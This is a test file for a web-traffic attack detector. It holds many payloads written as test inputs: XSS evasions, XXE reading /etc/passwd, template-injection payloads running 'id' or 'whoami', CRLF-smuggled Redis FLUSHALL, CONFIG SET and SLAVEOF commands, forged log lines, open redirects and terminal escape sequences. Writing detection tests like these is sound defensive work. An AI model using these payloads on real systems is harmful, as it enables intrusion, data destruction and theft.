import fc from 'fast-check';
import { Detector, InspectedValue, LEVEL_THRESHOLDS, inspectValue, ruleScore, type ValueLocation } from '@/runtime/analyzer/engine/detection';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { resolveLimits } from '@/runtime/analyzer/engine/limits';
import { corpusExchange } from '@/test/bench/corpora';
import { buildExchange } from '@/test/fixtures/traffic';
import { loadOwnCases } from '@/test/fixtures/detection-cases';

const classesOf = (value: string, location: ValueLocation = 'query', name = 'q') =>
  new Set(inspectValue(new InspectedValue(location, name, value)).map((r) => r.classification));
const idsOf = (value: string, location: ValueLocation = 'query', name = 'q') => inspectValue(new InspectedValue(location, name, value)).map((r) => r.id);

describe('XSS in every context', () => {
  it.each([
    '"><svg/onload=alert(1)>',
    '%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E',
    '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    '&lt;iframe src=&quot;javascript:alert(1)&quot;&gt;',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    "';alert(document.domain)//",
    '"}};top.alert(1)//',
    '${alert(1)}',
    'alert.call(null,1)',
    '(confirm)(1)',
    '[1].some(alert)',
    'top["al"+"ert"](1)',
    'javascript:%ef%bb%bfalert(1)',
    '<a href=java&#x09;script:alert(1)>x</a>',
    '<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '" autofocus onfocus=alert(1) x="',
  ])('%s', (payload) => {
    expect(classesOf(payload).has('Xss')).toBe(true);
  });

  const alertsAtLevel1 = (value: string, location: ValueLocation = 'query') => {
    const rules = new Map(inspectValue(new InspectedValue(location, 'q', value)).map((r) => [r.id, ruleScore(r)]));
    return [...rules.values()].reduce((sum, score) => sum + score, 0) >= LEVEL_THRESHOLDS[1];
  };

  it.each([
    ['junk between a handler name and "="', '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("x")>'],
    ['slash-separated resource attribute', '%3Cimg%2Fsrc%3D1'],
    ['back-quoted script URL', '<img src=`javascript:alert("x")`>'],
    ['character references split by <wbr>', '&<WBR>#106&#97&<WBR>#118&#97&#115&#99'],
    ['CDATA-split script URL in an XML data island', '<xml id=i><x><c><![CDATA[<img src=""javas]]><![CDATA[cript:alert("x");"">]]></c></x></xml>'],
    ['7-bit stripped markup after a charset switch', '<meta charset="x-mac-farsi">\u00bcscript \u00beprint()//\u00bc/script \u00be'],
    ['7-bit stripped markup sent as Latin-1 bytes', '%BCscript%BEprint()%BC/script%BE'],
    ['XML Events handler', '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="evil.evt#x"/>'],
    ['DOM clobbering of a document method', '<img name=getElementById>'],
    ['dangling markup carrying the page away', "<img src='https://203.0.113.7/log?"],
    ['tag-stripping filter evasion', '"autof<x>ocus o<x>nfocus=alert<x>(1)//'],
    ['statement after a string break-out', "'; return this; var d='"],
    ['JavaScript tautology after a string break-out', "' || this.version || '1'=='1"],
    ['JavaScript function literal (server-side JS)', 'function(){ return this.password }'],
    ['XSLT stylesheet processing instruction', '<?xml-stylesheet type="text/xsl" href="#"?><img xmlns="x-schema:test.xdr"/>'],
    [
      'entity-encoded script URL in a split tag',
      'SRC=&#10<IMG 6;&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#112;&#114;&#105;&#110;&#116;&#40;&#41;>',
    ],
  ])('alerts at level 1 on %s', (_technique, payload) => {
    expect(alertsAtLevel1(payload.replace(/\\u00(bc|be)/g, (_m, h: string) => String.fromCharCode(parseInt(h, 16))))).toBe(true);
  });

  it('keeps ordinary markup, prose with quotes and code words below level 1', () => {
    for (const benign of [
      '<b>bold</b> and <i>italic</i>',
      '</style>',
      '<img src="https://cdn.example.com/a.png">',
      "He said 'no'; return the form to 'Anna' by Friday",
      "It's 1/4 cup sugar and 3/4 cup flour",
      'Set an alert (daily)',
      'function of the return key',
      "'a' || 'b'",
      '<input name="location" value="Berlin">',
    ]) {
      expect(alertsAtLevel1(benign)).toBe(false);
    }
  });

  it('raises nothing that alerts at level 1 on telemetry describing links, error texts and prose about cookies', () => {
    const buttonFeatures = JSON.stringify({ classList: '', destination: 'javascript:void(0);', tag: 'a' });
    const postBack = JSON.stringify({ destination: 'javascript:WebForm_DoPostBackWithOptions(new WebForm_PostBackOptions("x", "", true))', tag: 'a' });
    for (const benign of [
      buttonFeatures,
      postBack,
      'document.cookie is read by the analytics script',
      'Cannot read property of #<Object>',
      'onclick=LO.min_chat();',
    ]) {
      const xss = inspectValue(new InspectedValue('query', 'q', benign)).filter((r) => r.classification === 'Xss');
      expect(xss.filter((r) => ruleScore(r) >= LEVEL_THRESHOLDS[1]).map((r) => r.id)).toEqual([]);
    }
  });
});

describe('CRLF injection', () => {
  it('finds header lines and bare line breaks injected into values', () => {
    expect(idsOf('x\r\nSet-Cookie: a=b')).toContain(920101);
    expect(idsOf('x\r\nX-Anything: 1', 'cookie', 'pref')).toContain(920102);
    expect(idsOf('\r\n', 'cookie', 'pref')).toContain(920103);
    expect(idsOf('%0%0d%0ad%0%0d%0aa', 'query')).toContain(920103);
    expect(idsOf('/a\r\nb', 'path', '')).toContain(920103);
    // a Redis command on the line after an id the application writes in the inline protocol
    expect(idsOf('hub-1\r\nFLUSHALL\r\nCONFIG SET dir /root/.ssh\r\n', 'query', 'device')).toContain(920107);
    expect(idsOf('sess-9\nslaveof 203.0.113.9 6379', 'cookie', 'sid')).toContain(920107);
    // or after a URL whose request line a fetcher sends as written
    expect(idsOf('http://127.0.0.1:6379/?q=1 HTTP/1.1\r\nSLAVEOF 203.0.113.7 6379\r\nFOO: x', 'body_json', 'arguments.url')).toContain(920107);
    expect(idsOf('see http://redis.example/docs HTTP/1.1\r\nSLAVEOF 10.0.0.2 6379', 'body_json', 'notes')).not.toContain(920107);
    // `čĊ`, which a client keeping each character's low byte sends as CR LF (U+0120 a space)
    expect(idsOf('/status\u010d\u010aHost:\u0120127.0.0.1\u010d\u010a\u010d\u010aGET\u0120/admin', 'query', 'path')).toContain(920101);
    expect(classesOf('Kočka a Ċaqħaq: host: the garden', 'body_form', 'message').has('CrlfInjection')).toBe(false);
  });

  it('reads no injection in a body with its own lines, typed text or whitespace', () => {
    const batch = '--batch\r\nContent-Type: application/http\r\n\r\nGET /x HTTP/1.1\r\n--batch--';
    expect(classesOf(batch, 'body', '').has('CrlfInjection')).toBe(false);
    expect(classesOf('Dear team,\r\nthanks.\r\nBest', 'body_form', 'message').has('CrlfInjection')).toBe(false);
    expect(classesOf('Address: 1 Main St\nCity: Springfield', 'query', 'note').has('CrlfInjection')).toBe(false);
    expect(classesOf('\n      \n   ', 'query', 'cd[text]').has('CrlfInjection')).toBe(false);
    expect(classesOf('Cache notes\nflushall clears every database, so we never run it', 'body_form', 'notes').has('CrlfInjection')).toBe(false);
  });
});

describe('XXE, SSTI, session fixation and open redirect', () => {
  it('XXE: entities, resolver URIs, XInclude, XSLT, UTF-7 documents', () => {
    expect(classesOf('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'xml_document', '').has('Xxe')).toBe(true);
    expect(classesOf('<xsl:stylesheet><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>').has('Xxe')).toBe(true);
    // `document('')` is the stylesheet itself: a lookup table kept in it
    expect(classesOf('<xsl:stylesheet><xsl:variable name="t" select="document(\'\')/*/my:codes"/></xsl:stylesheet>').has('Xxe')).toBe(false);
    expect(classesOf('<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///x+ACI-+AD4-+AF0-+AD4-').has('Xxe')).toBe(
      true,
    );
    expect(classesOf('<?xml version="1.0"?><order><id>1</id></order>', 'xml_document', '').has('Xxe')).toBe(false);
    const rss =
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>';
    expect(classesOf(rss, 'xml_document', '').has('Xxe')).toBe(false);
    expect(classesOf(rss.replace('my.netscape.com', 'dtd.example.net'), 'xml_document', '').has('Xxe')).toBe(true);
  });

  it('XXE: a document type declaring only its own vocabulary, or naming a DTD beside the file, is no XXE; one that loads, nests or repeats is', () => {
    const xxe = (document: string) => classesOf(document, 'xml_document', '').has('Xxe');
    // text entities, content models and attribute lists; a Java configuration's relative DTD
    expect(
      xxe('<!DOCTYPE guide [<!ENTITY product "Harbor CLI"><!ELEMENT guide (#PCDATA)><!ATTLIST guide version CDATA #IMPLIED>]><guide>&product;</guide>'),
    ).toBe(false);
    expect(xxe('<?xml version="1.0"?><!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>')).toBe(false);
    // a DTD beside the file whose entities the document uses, an event handler given to every image,
    // a parameter entity, a text referenced thousands of times
    expect(xxe('<!DOCTYPE x SYSTEM "test.dtd"><x>&x;</x>')).toBe(true);
    expect(xxe('<!DOCTYPE x [<!ATTLIST img onerror CDATA "alert(1)">]><img/>')).toBe(true);
    expect(xxe('<!DOCTYPE x [<!ENTITY % p "<!ENTITY y \'z\'>">%p;]><x/>')).toBe(true);
    expect(xxe(`<!DOCTYPE k [<!ENTITY a "${'a'.repeat(200)}">]><k>${'&a;'.repeat(1500)}</k>`)).toBe(true);
  });

  it('XXE: an XInclude that reads a file as text or names it by a scheme, an absolute path or a climb, not a book pulling in its own chapter', () => {
    const include = (attributes: string) => `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include ${attributes}/></r>`;
    for (const attributes of [
      'parse="text" href="file:///etc/passwd"',
      'href="/etc/passwd"',
      'href="../../../../etc/passwd"',
      'href="http://evil.example/x.xml"',
      'href="x.xml" parse="text"',
    ])
      expect(classesOf(include(attributes), 'xml_document', '').has('Xxe')).toBe(true);
    for (const attributes of ['href="chapters/installation.xml"', "href='appendix-a.xml' xpointer='element(/1)'"])
      expect(classesOf(include(attributes), 'xml_document', '').has('Xxe')).toBe(false);
  });

  it.each([
    ['{{7*7}}', 'Jinja2/Twig'],
    ['{{=42*42}}', 'doT'],
    ['${7*7}', 'FreeMarker/EL'],
    ['[=7*7]', 'FreeMarker square syntax'],
    ['<%= 7*7 %>', 'ERB'],
    ['@(7*7)', 'Razor'],
    ['{7*7}', 'Smarty'],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", 'Jinja2 objects'],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'FreeMarker Execute'],
    ['#set($x=$class.inspect("java.lang.Runtime"))', 'Velocity'],
    ['${T(java.lang.Runtime).getRuntime().exec("id")}', 'SpEL'],
    ['__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x', 'Thymeleaf'],
    ['{php}echo `id`;{/php}', 'Smarty'],
    ['${self.module.cache.util.os.system("id")}', 'Mako'],
    ['#{root.process.mainModule.require("child_process").execSync("id")}', 'Pug'],
    ['@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', 'Razor'],
    ['{{#with "s" as |string|}}{{#with string.constructor}}x{{/with}}{{/with}}', 'Handlebars'],
    ['{{call .Exec "id"}}', 'Go templates'],
  ])('SSTI %s (%s)', (payload) => {
    expect(classesOf(payload).has('TemplateInjection')).toBe(true);
  });

  it('SSTI leaves braces in ordinary values alone', () => {
    for (const benign of ['{"a":1}', 'price {2 for 1}', '{{user.name}}', 'a*b = c', '${HOME}/bin'])
      expect(classesOf(benign).has('TemplateInjection')).toBe(false);
  });

  it('session fixation: planted cookies and URL-borne platform session ids', () => {
    expect(idsOf('<meta http-equiv="Set-Cookie" content="JSESSIONID=abc">')).toContain(920201);
    expect(idsOf("document.cookie='PHPSESSID=fixed'")).toContain(920202);
    expect(idsOf('0123456789abcdef', 'query', 'jsessionid')).toContain(920204);
    expect(idsOf('44779fe8-691c-45e9-88f6-040741c66cb9', 'query', 'sessionid')).not.toContain(920204);
    expect(classesOf('accept cookies to keep your session').has('SessionFixation')).toBe(false);
  });

  it('session fixation: a URL-borne session id its platform never issues is a chosen one (level 1)', () => {
    expect(idsOf('attackerfixed01', 'query', 'PHPSESSID')).toContain(920207);
    expect(idsOf('qz5vx3l2m4n1o0p9r8s7t6u5', 'body_form', 'ASP.NET_SessionId')).toContain(920207);
    expect(idsOf('8f3a1c0d2e9b7a6f5e4d3c2b1a', 'query', 'PHPSESSID')).not.toContain(920207);
    // PHP's three alphabets: hexadecimal, [0-9a-v], and [0-9a-zA-Z,-], whose random ids hold a capital, comma or hyphen.
    expect(idsOf('q3v0hk6b2m9l1c5d8f7g4j0a2n', 'query', 'PHPSESSID')).not.toContain(920207);
    expect(idsOf('Xk3,9fQ-pL2mZ8vT1bN4cR7y', 'query', 'PHPSESSID')).not.toContain(920207);
    expect(idsOf('fixated1337session0000', 'query', 'PHPSESSID')).toContain(920207);
    expect(idsOf('lit3py55t21z5v55vlm25s55', 'query', 'ASP.NET_SessionId')).not.toContain(920207);
    expect(idsOf('0123456789abcdef', 'query', 'jsessionid')).not.toContain(920207);
  });

  it('session fixation: a session id in the path that its platform never issues (level 1)', () => {
    const detector = new Detector({ level: 1 });
    const chosen = (target: string) =>
      detector
        .detect(viewRequest(buildExchange({ id: target, method: 'GET', target, host: 'shop.example.com', requestHeaders: [] }), resolveLimits(undefined)))
        .hits.filter((h) => h.rule.id === 920207)
        .map((h) => `${h.location}:${h.parameter}=${h.value}`);
    // A cookieless segment ASP.NET never writes (its ids are 24 of [a-z0-5]), also one splitting a folder name.
    expect(chosen('/app/(S(x7k2mz))/adm/(S(x7k2mz))in/users.aspx')).toEqual(['path:ASP.NET cookieless session=x7k2mz']);
    expect(chosen('/(S(ATTACKER))/Login.aspx')).toEqual(['path:ASP.NET cookieless session=ATTACKER']);
    expect(chosen('/shop/index.php;PHPSESSID=fixed123')).toEqual(['path:PHPSESSID=fixed123']);
    // Ids as the platforms issue them, and Java's (any form), are not chosen ones.
    expect(chosen('/(S(lit3py55t21z5v55vlm25s55))/Account/Login.aspx')).toEqual([]);
    expect(chosen('/app;jsessionid=0123456789ABCDEF')).toEqual([]);
    expect(chosen('/wiki/Function_(S(x))')).toEqual([]);
  });

  it('session fixation: a platform session id in the URL of a navigation another site sent', () => {
    const detector = new Detector({ level: 1 });
    const fixation = (target: string, headers: Array<[string, string]>) =>
      detector
        .detect(viewRequest(buildExchange({ id: target, method: 'GET', target, host: 'shop.example.com', requestHeaders: headers }), resolveLimits(undefined)))
        .hits.filter((h) => h.rule.id === 920205)
        .map((h) => `${h.location}:${h.parameter}`);
    const crossSiteClick: Array<[string, string]> = [
      ['Sec-Fetch-Site', 'cross-site'],
      ['Sec-Fetch-Mode', 'navigate'],
    ];
    expect(fixation('/login?PHPSESSID=0123456789abcdef', crossSiteClick)).toEqual(['query:PHPSESSID']);
    expect(fixation('/app;jsessionid=0123456789ABCDEF', crossSiteClick)).toEqual(['path:jsessionid']);
    // Without Sec-Fetch headers, a Referer naming another site says the same.
    expect(fixation('/login?PHPSESSID=0123456789abcdef', [['Referer', 'https://attacker.example.net/x']])).toEqual(['query:PHPSESSID']);
    // The same site (another subdomain, a country-code domain), the browser saying same-origin,
    // or a script another page loads: not a victim's click.
    expect(fixation('/login?PHPSESSID=0123456789abcdef', [['Referer', 'https://www.example.com/']])).toEqual([]);
    expect(
      fixation('/a;jsessionid=0123456789ABCDEF', [
        ['Sec-Fetch-Site', 'same-origin'],
        ['Sec-Fetch-Mode', 'navigate'],
        ['Referer', 'https://other.example.org/'],
      ]),
    ).toEqual([]);
    expect(
      fixation('/jsf.js;jsessionid=0123456789ABCDEF', [
        ['Sec-Fetch-Site', 'cross-site'],
        ['Sec-Fetch-Mode', 'no-cors'],
      ]),
    ).toEqual([]);
    expect(fixation('/login?sessionid=0123456789abcdef', crossSiteClick)).toEqual([]);
    expect(fixation('/login?PHPSESSID=0123456789abcdef', [])).toEqual([]);
    // ASP.NET's cookieless id in the path and Perl's CGISESSID are read too.
    expect(fixation('/(S(lit3py55t21z5v55vlm25s55))/Account/Login.aspx', crossSiteClick)).toEqual(['path:ASP.NET cookieless session']);
    expect(fixation('/opac-user.pl?CGISESSID=0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d', crossSiteClick)).toEqual(['query:CGISESSID']);
    // Sites under a registry's second level, a short site name, a trailing dot, address literals.
    const fromHost = (host: string, referer: string) =>
      detector
        .detect(
          viewRequest(
            buildExchange({ id: host + referer, method: 'GET', target: '/?PHPSESSID=0123456789abcdef', host, requestHeaders: [['Referer', referer]] }),
            resolveLimits(undefined),
          ),
        )
        .hits.some((h) => h.rule.id === 920205);
    expect(fromHost('shop.example.co.uk', 'https://www.example.co.uk/')).toBe(false);
    expect(fromHost('shop.bmw.de', 'https://www.bmw.de/')).toBe(false);
    expect(fromHost('example.com.', 'https://example.com/')).toBe(false);
    expect(fromHost('10.0.0.1', 'http://192.168.0.1/')).toBe(true);
    expect(fromHost('shop.example.co.uk', 'https://attacker.co.uk/')).toBe(true);
  });

  it('session fixation: a platform session id in the URL of a fresh visit (no Referer, no session cookie, not a crawler)', () => {
    const detector = new Detector({ level: 1 });
    const visit = (target: string, headers: Array<[string, string]>) => {
      const result = detector.detect(
        viewRequest(buildExchange({ id: target, method: 'GET', target, host: 'shop.example.com', requestHeaders: headers }), resolveLimits(undefined)),
      );
      return { fresh: result.hits.some((h) => h.rule.id === 920208), alerts: result.alert };
    };
    const browser: Array<[string, string]> = [['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/124.0']];
    // a link from a mail app: no Referer; the query parameter's own sign makes it alert
    expect(visit('/app/welcome.do?JSESSIONID=7F3C9A1B2D4E6F8091A2B3C4D5E6F708', browser)).toEqual({ fresh: true, alerts: true });
    expect(visit('/login?PHPSESSID=0123456789abcdef', [...browser, ['Sec-Fetch-Site', 'none'], ['Sec-Fetch-Mode', 'navigate']])).toEqual({
      fresh: true,
      alerts: true,
    });
    // Java's rewriting puts the id in the path: a sign, not an alert at level 1
    expect(visit('/login;jsessionid=A1B2C3D4E5F60718293A4B5C6D7E8F90', browser)).toEqual({ fresh: true, alerts: false });
    // a page of the same site, a browser that already holds the platform's cookie, a crawler's revisit, a script load
    expect(visit('/login?PHPSESSID=0123456789abcdef', [...browser, ['Referer', 'https://shop.example.com/']]).fresh).toBe(false);
    expect(visit('/login?PHPSESSID=0123456789abcdef', [...browser, ['Sec-Fetch-Site', 'same-origin']]).fresh).toBe(false);
    expect(visit('/login?PHPSESSID=0123456789abcdef', [...browser, ['Cookie', 'PHPSESSID=0123456789abcdef']]).fresh).toBe(false);
    expect(visit('/login?PHPSESSID=0123456789abcdef', [['User-Agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)']]).fresh).toBe(
      false,
    );
    expect(visit('/jsf.js;jsessionid=0123456789ABCDEF', [...browser, ['Sec-Fetch-Mode', 'no-cors']]).fresh).toBe(false);
    // a generic name is an analytics parameter
    expect(visit('/login?sessionid=0123456789abcdef', browser).fresh).toBe(false);
  });

  it("open redirect: a target on another site dressed up as this one, never another site's plain URL", () => {
    const detector = new Detector({ level: 1 });
    const redirect = (target: string, host = 'shop.example.com') =>
      detector
        .detect(viewRequest(buildExchange({ id: target, method: 'GET', target, host }), resolveLimits(undefined)))
        .hits.filter((h) => h.rule.classification === 'OpenRedirect')
        .map((h) => `${h.rule.id}:${h.parameter}`);
    expect(redirect('/login?next=https://shop.example.com.evil.net/')).toEqual(['510103:next']);
    expect(redirect('/authorize?redirect_uri=https%3A%2F%2Fapp.example.com.attacker.io%2Fcb', 'auth.example.com')).toEqual(['510103:redirect_uri']);
    expect(redirect('/login?returnUrl=https%3A%2F%2Fshop.example.com%40evil.net%2F')).toEqual(['510104:returnUrl']);
    expect(redirect('/cb?return_to=https://evil.net%23.example.com')).toEqual(['510105:return_to']);
    expect(redirect('/go?to=https://evil.net/?x=.example.com')).toEqual(['510105:to']);
    // A host holding an encoded delimiter, whatever site it names; encoded text after the host is a query's
    expect(redirect('/auth?redirect_uri=https%3A%2F%2Fapp.saasly.io%252eevil-login.net%2Fcb', 'sso.example.com')).toEqual(['510107:redirect_uri']);
    expect(redirect('/login?next=https://app.example.org%2540evil.net/')).toEqual(['510107:next']);
    // A tab a URL parser drops: the browser goes to app.example.com.attacker.net.
    expect(redirect('/oauth2/v1/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2509.attacker.net%2Fcallback', 'login.example.com')).toEqual([
      '510107:redirect_uri',
    ]);
    // A host mixing Latin and Cyrillic letters in one label, as is or in punycode: an IDN homograph.
    expect(redirect('/logout?returnUrl=https%3A%2F%2Fp%D0%B0ypal.com%2Fsignin')).toEqual(['510108:returnUrl']);
    expect(redirect('/logout?returnUrl=https%3A%2F%2Fxn--pypal-4ve.com%2Fsignin')).toEqual(['510108:returnUrl']);
    // One script per label, Latin and Cyrillic side by side: an ordinary Russian shop.
    expect(redirect('/out?url=https%3A%2F%2Fshop.xn--80aswg.xn--p1ai%2F')).toEqual([]);
    // A parent step in the target's path climbs out of the prefix an allow-list checks, on this site too.
    expect(
      redirect('/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%2F..%2Fredirect%3Furl%3Dhttps%3A%2F%2Fevil.net', 'login.example.com'),
    ).toEqual(['510109:redirect_uri']);
    expect(redirect('/login?next=/account/..%2F..%2Fadmin')).toEqual(['510109:next']);
    expect(redirect('/login?next=/account/settings%3Fback%3D..%2Fcart')).toEqual([]);
    expect(redirect('/auth?redirect_uri=https%3A%2F%2Fapp.saasly.io%2Fcb%3Fnext%3D%252Fhome', 'sso.example.com')).toEqual([]);
    // Everyday redirects: this site, another site's plain URL, an OAuth chain naming this site in its query, an archive link.
    expect(redirect('/login?next=https://www.example.com/account')).toEqual([]);
    expect(redirect('/out?url=https://partner.example.net/offer')).toEqual([]);
    expect(redirect('/sso?continue=https://accounts.idp.net/auth?redirect_uri=https://shop.example.com/cb')).toEqual([]);
    expect(redirect('/out?url=https://web.archive.org/web/2020/https://shop.example.com/')).toEqual([]);
    expect(redirect('/login?next=https://shop.example.com.evil.net/', '10.0.0.5')).toEqual([]);
    // A protocol-relative target on another site where a sign-in sends the browser next; generic URL
    // parameters carry protocol-relative resource URLs (ad syncs), and this site's own is a link.
    expect(redirect('/login?next=//evil-login.net/session')).toEqual(['510106:next']);
    expect(redirect('/login?returnUrl=%2F%2Fevil.net')).toEqual(['510106:returnUrl']);
    expect(redirect('/login?next=//www.example.com/account')).toEqual([]);
    // Jenkins' login sends the browser back to `from`
    expect(redirect('/login?from=%2F%2Fevil-jenkins.example.net%2Fjob%2Fbuild')).toEqual(['510106:from']);
    expect(redirect('/login?from=%2Fjob%2Fbuild')).toEqual([]);
    expect(redirect('/sync?url=//x.bidswitch.net/sync?dsp_id=59')).toEqual([]);
    // A protocol-relative URL with an empty or parent segment after its host; an XPath is no such URL.
    expect(redirect('/out?u=//evil.net//account')).toEqual(['510102:u']);
    expect(redirect('/out?u=//[2001:db8::1]/../x')).toEqual(['510102:u']);
    expect(redirect("/scrape?selector=//div[@class='product']//h2/text()")).toEqual([]);
    // A slash and a backslash before a host; before a word it is an escaped slash of a search syntax.
    expect(redirect('/out?u=%5C%2Fevil.com')).toEqual(['510101:u']);
    expect(redirect('/logs?query=%5C%2Fhealthz*')).toEqual([]);
    // two slashes, then a backslash (`//\\evil`: three slashes to a browser), also double-encoded
    expect(redirect('/url?url=%2F%2F%5Cevil-login.example%2F')).toEqual(['510101:url']);
    expect(redirect('/url?sa=t&url=%252F%252F%255Cevil-login.example%252F')).toEqual(['510101:url']);
    // A tab or line break before `//host`, which browsers drop; before a code comment it is code.
    expect(redirect('/redirect?url=%09%2F%2Fattacker.example.org%2F')).toEqual(['510101:url']);
    expect(redirect('/redirect?url=%0A%2F%2Fevil.net')).toEqual(['510101:url']);
    expect(redirect('/snippets?code=%09%2F%2F%20init%20the%20map')).toEqual([]);
  });

  it('never throws on arbitrary input in any location', () => {
    const locations: ValueLocation[] = ['query', 'path', 'cookie', 'header', 'body', 'xml_document', 'body_form'];
    fc.assert(
      fc.property(fc.string({ maxLength: 1500 }), fc.constantFrom(...locations), (s, location) =>
        Array.isArray(inspectValue(new InspectedValue(location, 'q', s))),
      ),
    );
  });
});

describe("the project's own cases (XXE, CRLF, session fixation)", () => {
  const detector = new Detector({ level: 1 });
  const alerts = (record: Parameters<typeof corpusExchange>[0]) => detector.detect(viewRequest(corpusExchange(record), resolveLimits(undefined))).alert;
  const { attacks, benign } = loadOwnCases();
  const mine = (cls: string) => attacks.filter((r) => r.class === cls);

  it.each(['xxe', 'session_fixation'])('%s: every case alerts at level 1', (cls) => {
    const missed = mine(cls).filter((r) => !alerts(r));
    expect(mine(cls).length).toBeGreaterThan(20);
    expect(missed.map((r) => r.id)).toEqual([]);
  });

  it('crlf: every case alerts where a value can carry a line break (raw headers cannot)', () => {
    const missed = mine('crlf').filter((r) => !alerts(r) && !(r.placement === 'header' && r.encoding === 'raw'));
    expect(missed.map((r) => r.id)).toEqual([]);
  });

  it('crlf: mail header and command injection in a one-word field, not mail text typed or pasted into a message field', () => {
    for (const location of ['body_form', 'body_json', 'query'] as const) {
      expect(idsOf('victim@example.com\r\nBcc: everyone@example.org', location)).toContain(920106);
      expect(idsOf('news\r\nRCPT TO:<victim@example.org>', location)).toContain(920107);
      for (const text of [
        'Hello there\r\nTo: the whole team\r\nFrom: Ann',
        '-----Original Message-----\r\nFrom: ann@example.com\r\nSent: Monday',
        '> quoted reply\nFrom: bob@example.com',
        'Agenda:\nsubject to change\nlist follows',
      ]) {
        expect({ text, ids: idsOf(text, location).filter((id) => id === 920106 || id === 920107) }).toEqual({ text, ids: [] });
      }
    }
  });

  it('crlf: a further line in a user name, login or e-mail field (log forging), not a line break in a message or a trailing one', () => {
    const forged = 'guest\r\n2024-05-14 09:12:01 INFO [auth] User admin logged in successfully from 10.0.0.5';
    for (const location of ['body_form', 'body_json', 'query', 'body_multipart'] as const) {
      for (const name of ['username', 'login', 'email', 'user.email', 'login[user_name]']) expect(idsOf(forged, location, name)).toContain(920108);
      expect(idsOf('bob\n', location, 'username')).not.toContain(920108);
      expect(idsOf('Thanks!\nSee you on Monday', location, 'message')).not.toContain(920108);
      expect(idsOf('line one\nline two', location, 'user_agent_notes')).not.toContain(920108);
    }
    expect(idsOf(forged, 'header', 'x-username')).not.toContain(920108);
  });

  it('crlf: a further line in a request, correlation or trace id header (log forging), percent-encoded too', () => {
    const forged = '93bac548-d2de%0d%0a2024-06-11T10:00:00Z INFO payment 99812 APPROVED by admin';
    for (const name of ['X-Request-ID', 'x-fapi-interaction-id', 'X-Correlation-Id', 'traceid', 'X-Amzn-Trace-Id'])
      expect(idsOf(forged, 'header', name)).toContain(920109);
    expect(idsOf('93bac548-d2de-4c2a', 'header', 'X-Request-ID')).not.toContain(920109);
    expect(idsOf('93bac548\r\n', 'header', 'X-Request-ID')).not.toContain(920109);
    expect(idsOf(forged, 'header', 'X-Client-Cert')).not.toContain(920109);
  });

  it('xss: an SVG image sent whole as the body is read as an upload, its script and all', () => {
    const detector = new Detector({ level: 1 });
    const put = (body: string) =>
      detector
        .detect(
          viewRequest(
            buildExchange({
              id: 'svg',
              method: 'POST',
              target: "/_api/web/Files/add(url='logo.svg')",
              host: 'shop.example.com',
              requestHeaders: [['Content-Type', 'image/svg+xml']],
              requestBody: body,
            }),
            resolveLimits(undefined),
          ),
        )
        .hits.map((h) => `${h.rule.id}@${h.location}`);
    expect(put('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/><script>fetch("/x").then((r) => r.text())</script></svg>')).toContain('200101@upload');
    expect(put('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 1h2"/></svg>')).toEqual([]);
  });

  it('crlf: a log record forged after a line break in a one-token value, not lines typed into a text field', () => {
    expect(idsOf('\r\n[2024-05-14 10:00:00] ERROR db credentials dumped to /tmp/creds.txt', 'query', 'ref')).toContain(920110);
    expect(idsOf('guest\r\n2024-05-14 09:12:01 INFO User admin logged in', 'body_form', 'nick')).toContain(920110);
    expect(idsOf('Mozilla/5.0\nWARN: disk full', 'header', 'User-Agent')).toContain(920110);
    for (const text of ['Notes\nerror in my order', 'Hello there\nERROR 404 when I pay', 'Invoice 42\n2024-05-14 10:00 meeting'])
      expect({ text, ids: idsOf(text, 'body_form', 'message') }).toEqual({ text, ids: expect.not.arrayContaining([920110]) });
  });

  it('crlf: terminal control sequences in a short value, not colours or a long log redrawing its progress', () => {
    // A line erased and redrawn under the cursor, a cleared screen and a window title: what a terminal log viewer shows is forged.
    expect(idsOf('shoes\n\u001b[1A\u001b[2K\u001b[32mGET /admin 200\u001b[0m', 'query', 'q')).toContain(920111);
    expect(idsOf('sn-77823\u001b[2J\u001b[1;1H\u001b]0;owned\u0007', 'body_json', 'device')).toContain(920111);
    expect(idsOf('curl/8.5\u001b]8;;https://evil.example/\u001b\\update\u001b]8;;\u001b\\', 'header', 'User-Agent')).toContain(920111);
    // Notebook tracebacks and CI job logs: colours and erase-to-end-of-line.
    expect(idsOf("\u001b[0;31mKeyError\u001b[0m: 'CONTINENT'", 'body_json', 'traceback')).not.toContain(920111);
    expect(idsOf('\u001b[0KRunning with gitlab-runner 16.7.0\u001b[0;m\n\u001b[0K  on k8s-runner', 'body_form', 'trace')).not.toContain(920111);
    const progress = Array.from({ length: 8 }, (_, i) => `Step ${i}/8 : RUN make\u001b[1A\u001b[2K layer ${i} done`).join('\n');
    expect(idsOf(progress, 'body_form', 'trace')).not.toContain(920111);
